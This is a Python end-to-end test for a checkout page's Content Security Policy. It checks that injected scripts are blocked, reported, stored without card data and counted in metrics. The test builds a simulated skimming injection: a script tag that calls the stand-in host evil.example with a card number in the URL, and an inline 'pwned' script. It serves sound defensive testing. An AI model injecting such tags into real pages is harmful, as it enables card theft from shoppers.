"""Payment-page integrity in a real Chromium (PCI DSS 6.4.3 / 11.6.1): a checkout page with an
injected external script and an injected inline script (a test-side proxy rewrites the HTML,
as a compromised template or CDN would) runs neither, still takes a payment with the
inventory's scripts, and Chromium's violation reports reach /csp-reports, are stored
deduplicated and counted on /metrics."""

from __future__ import annotations

import asyncio
import re
import secrets
import time

from playwright.async_api import Browser, Page, Route, expect
from sqlalchemy import select

from app.db import make_engine, make_sessionmaker, utcnow
from app.pagesec.models import CspReport
from app.sandbox import cards
from tests.e2e.conftest import ARTIFACTS, Server, create_session
from tests.e2e.test_checkout_page import fill_card


async def metric(server: Server, directive: str) -> float:
    body = (await server.ops.get("/metrics")).text
    found = re.search(rf'^rp_csp_reports_total{{directive="{directive}"}} (\S+)$', body, re.M)
    return float(found.group(1)) if found else 0.0


async def stored(db_url: str, blocked: str, since: object) -> CspReport | None:
    engine = make_engine(db_url)
    try:
        async with make_sessionmaker(engine)() as session:
            query = select(CspReport).where(
                CspReport.blocked_uri == blocked, CspReport.last_seen >= since
            )
            return (await session.scalars(query)).first()
    finally:
        await engine.dispose()


async def test_injected_scripts_are_blocked_reported_stored_and_counted(
    server: Server, browser: Browser
) -> None:
    started = utcnow()
    before = await metric(server, "script-src-elem")
    marker = f"e2e-{secrets.token_hex(4)}"
    evil = f"https://evil.example/{marker}/x.js"
    injected = (
        f'<script src="{evil}?card=4111111111111111"></script>'
        '<script>document.documentElement.dataset.pwned = "inline";</script>'
    )
    # Not the `page` fixture: it fails a test on any CSP violation, and these are expected.
    context = await browser.new_context(locale="ja-JP")
    page: Page = await context.new_page()
    csp_errors: list[str] = []
    page.on(
        "console", lambda m: csp_errors.append(m.text) if "Content Security" in m.text else None
    )
    evil_fetched: list[str] = []

    async def tamper(route: Route) -> None:
        # The test-side proxy: the page as served, headers untouched, scripts added to its body.
        if route.request.method != "GET":
            await route.continue_()
            return
        response = await route.fetch()
        html = (await response.text()).replace("</body>", injected + "</body>")
        await route.fulfill(response=response, body=html)

    async def evil_server(route: Route) -> None:
        # Were the script let in, it would run and mark the page.
        evil_fetched.append(route.request.url)
        js = 'document.documentElement.dataset.pwned = "external";'
        await route.fulfill(status=200, content_type="application/javascript", body=js)

    try:
        cs = await create_session(server)
        await page.route(re.compile(rf"{re.escape(cs['url'])}(\?.*)?$"), tamper)
        await page.route("https://evil.example/**", evil_server)
        await page.goto(cs["url"])
        await expect(page.locator("#total-amount")).to_contain_text("1,580")
        # The injected tags are in the page...
        assert await page.locator('script[src^="https://evil.example/"]').count() == 1
        # ...and neither ran: no mark, the external one was never even requested.
        assert await page.evaluate("document.documentElement.dataset.pwned") is None
        assert evil_fetched == []
        assert len(csp_errors) >= 2, csp_errors
        # The inventory's scripts did run (nonce, SRI): the shopper can still pay.
        await fill_card(page, cards.CARD_OK)
        await page.click("#purchase")
        await expect(page.locator('#result[data-status="succeeded"]')).to_be_visible(timeout=15000)
        await page.screenshot(path=str(ARTIFACTS / "integrity-tampered-paid.png"), full_page=True)
    finally:
        await context.close()  # also flushes any report still queued

    # Chromium sends its reports asynchronously (over http: report-uri, app/pagesec/csp.py):
    # wait for them, with a deadline.
    deadline = time.monotonic() + 90
    external = inline = None
    while time.monotonic() < deadline:
        external = await stored(server.db_url, evil, started)
        inline = await stored(server.db_url, "inline", started)
        if external is not None and inline is not None:
            break
        await asyncio.sleep(0.5)
    assert external is not None, "the blocked external script was reported and stored"
    assert inline is not None, "the blocked inline script was reported and stored"
    for row in (external, inline):
        assert row.directive == "script-src-elem" and row.count >= 1
        assert row.page.endswith("/checkout/{id}"), row.page
    assert "4111" not in external.blocked_uri and "card=" not in external.blocked_uri
    assert await metric(server, "script-src-elem") >= before + 2
